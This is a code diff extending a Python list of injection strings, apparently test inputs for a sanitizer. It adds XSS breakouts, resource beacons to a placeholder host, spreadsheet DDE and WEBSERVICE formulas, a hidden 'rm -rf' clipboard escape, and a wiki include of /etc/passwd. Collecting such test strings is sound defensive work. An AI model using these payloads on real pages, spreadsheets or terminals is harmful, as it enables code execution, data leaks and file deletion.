@@ -1,4 +1,4 @@
-"""Some 300 texts that are commands somewhere: in a page, an address, a style, a template, a wiki, a table, a terminal."""
+"""Some 400 texts that are commands somewhere: in a page, an address, a style, a template, a wiki, a table, a terminal."""
 
 # ruff: noqa: E501 - rows of odd texts are easier to read on one line
 from __future__ import annotations
@@ -110,11 +110,66 @@ def _terminals() -> list[str]:
                "\x1bP+q\x1b\\", "\x1b[6n", "\x00", "\x7f", "\x85next", "\u2028line", "\u2029para", "\x0b", "\x0c"]  # fmt: skip
     turns = ["\u202egnp.exe", "\u202aabc", "\u202babc", "\u202dabc", "\u2066abc", "\u2067abc", "\u2068abc", "\u2069abc", "\u200eabc", "\u200fabc", "\u061cabc",
              "\ufeffabc", "a\u200bb", "a\u0301" * 60, "\u0627\u0628 abc \u202c", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb"]  # fmt: skip
-    return escapes + turns
+    hidden = ["\x1b]52;c;cm0gLXJm\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b[?1049h\x1b[H", "\x1b[8m hidden", "\x1bc", "\x1b[3J", "\x9d0;title\x9c",
+              "\x90q\x9c", "a\rb\x1b[K", "\x1b[1A\x1b[2K", "\x1b[201~rm\n", "\u200babc", "\u200cabc", "\u2060abc", "\u00adabc", "\u180eabc", "\u2062abc",
+              "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065", "\ufffcabc", "\u3164abc", "a\u0489" * 40, "\u2067\u202e\u2066" * 30]  # fmt: skip
+    return escapes + turns + hidden
 
 
-STRINGS: tuple[str, ...] = tuple(
-    dict.fromkeys(
-        [*_html(), *_attributes(), *_schemes(), *_styles_and_svg(), *_templates(), *_wikis(), *_tables(), *_terminals()]
+def _scripts() -> list[str]:
+    """What ends a script, a style, a comment, a section or a string that a page may hold a text in."""
+    return [f"</ScRiPt ><img src=x onerror={RAN}>", f"</script\n><script>{RAN}</script>", f"<!--<script><!--<script>{RAN}", f"--!><img src=x onerror={RAN}>",
+            f"<!--><img src=x onerror={RAN}>", f"<!---><img src=x onerror={RAN}>", f"]]>]]><img src=x onerror={RAN}>", f"\u2028{RAN}\u2029", f"\\';{RAN}//",
+            f"\\\\u0022;{RAN}//", f"'-{RAN}-'", f"`${{{RAN}}}`", f"*/{RAN}/*", f"//\n{RAN}", f"</noscript><img src=x onerror={RAN}>", f"</svg></math><img src=x onerror={RAN}>",
+            f"</desc><script>{RAN}</script>", f"</text><a href='javascript:{RAN}'>", f"<title><!--</title><img src=x onerror={RAN}>-->", f"<iframe srcdoc=\"&lt;img src=x onerror=parent.{RAN}&gt;\">",
+            f"<a href=\"{BEACON}ping\" ping=\"{BEACON}p\">x</a>", f"<link rel=dns-prefetch href={BEACON}d>", f"<link rel=preconnect href={BEACON}c>", f"<link rel=manifest href={BEACON}w>",
+            f"<video poster={BEACON}v></video>", f"<input type=image src={BEACON}n>", f"<svg><feImage href='{BEACON}g'/></svg>", f"<style>a{{background:image-set('{BEACON}is' 1x)}}</style>",
+            f"<object data='{BEACON}o'></object>", f"<embed src='{BEACON}em'>", f"<track src='{BEACON}tr'>", f"<html manifest={BEACON}mf>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
+            "<div popover id=x>x</div><button popovertarget=x>", "<dialog open>x</dialog>", "<form id=x></form><input form=x name=action>", "<a id=location name=location>", "<img name=ran>", "__proto__", "constructor",
+            f"<div style=\"content:url({BEACON}ct)\">", f"<x style=animation:x onanimationend={RAN}>", f"<input onbeforeinput={RAN} autofocus>", f"<body onhashchange={RAN} onpageshow={RAN}>"]  # fmt: skip
+
+
+def _cells() -> list[str]:
+    """Formulas behind what a spreadsheet drops, or nobody sees."""
+    before = (
+        "\u200b",
+        "\ufeff",
+        "\u00a0",
+        "\u3000",
+        "\u2028",
+        "\x0b",
+        "\x0c",
+        "\x00",
+        "\x1f",
+        "\u00ad",
+        "\u2060",
+        "  \t ",
+        "\u202e",
+        "''",
+        "\x85",
     )
+    return [f"{one}=1+1" for one in before] + ["\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|'x'!A0",
+            f"=WEBSERVICE(\"{BEACON}ws\")", f"=IMAGE(\"{BEACON}im\")", "+A1", "-A1", "--1", "=\n1"]  # fmt: skip
+
+
+def _calls() -> list[str]:
+    """What pings a person or an issue, or is drawn, on the hosts of Git wikis."""
+    return ["@octocat please", "@org/team", "org/repo#123", "GH-123", "#123 closes #4", "!12 &3 %4 ~bug", "- [ ] task\n- [x] done", "$$x^2$$", "```math\nx\n```", "> [!NOTE]\n> x",
+            "<!-- sociable:end -->", "<!-- sociable:begin -->", "[[_TOC_]]", "::include{file=/etc/passwd}", "-{R|x}-", "{{#invoke:x|y}}", "~~META: title=x~~", "~~REDIRECT>x~~",
+            "%%</nowiki>%%", "{{subst:x}}~~~~~", "<ac:task-list/>", "<ri:attachment ri:filename=\"x\"/>", "\x7f'\"`UNIQ--nowiki-00000000-QINU`\"'\x7f", "+++\nx = 1\n+++"]  # fmt: skip
+
+
+KINDS = (
+    _html,
+    _attributes,
+    _schemes,
+    _styles_and_svg,
+    _templates,
+    _wikis,
+    _tables,
+    _terminals,
+    _scripts,
+    _cells,
+    _calls,
 )
+STRINGS: tuple[str, ...] = tuple(dict.fromkeys(one for kind in KINDS for one in kind()))
